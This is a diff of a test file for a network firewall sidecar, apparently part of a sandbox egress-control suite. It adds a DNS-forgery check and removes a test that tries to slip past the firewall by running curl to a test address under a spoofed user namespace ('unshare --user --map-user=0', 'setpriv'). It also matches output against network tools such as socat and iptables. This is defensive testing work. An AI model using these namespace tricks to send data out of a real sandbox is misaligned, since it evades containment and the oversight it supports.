@@ -5,6 +5,7 @@ import { newToken } from '../firewall/attacks/attack.js';
 import { attacks } from '../firewall/attacks.js';
 import {
   escapes,
+  forgesNoAnswers,
   isUnprivileged,
   lendsNoRights,
   privileged,
@@ -81,6 +82,7 @@ describe.skipIf(skip).each(networks)('shape sidecar on $name', ({ more, top, fam
   );
   lendsNoRights(target);
   reachesAllowedNames(scene, families);
+  forgesNoAnswers(scene);
   refusesAttacks(
     scene,
     attacks.filter((attack) => ipv6 || !attack.ipv6),
@@ -98,17 +100,6 @@ describe.skipIf(skip).each(networks)('shape sidecar on $name', ({ more, top, fam
     );
     expect(stdout).not.toMatch(/s6|haproxy|dnsmasq|socat|iptables/);
     expect(stdout).not.toContain('allowlist');
-  });
-
-  it('lets nobody pass as a helper by way of a user namespace', async () => {
-    const token = newToken();
-    const send = `curl -sS -m 3 http://198.18.0.66:8080/${token}`;
-    for (const id of ['0', '59902']) {
-      await workspace.attempt(
-        `unshare --user --map-user=${id} bash -c '${send}'; setpriv --reuid=${id} ${send}`,
-      );
-    }
-    expect(await escapes(scene, token)).toBe(false);
   });
 
   it('gives no other container of the network a way through the workspace', async () => {
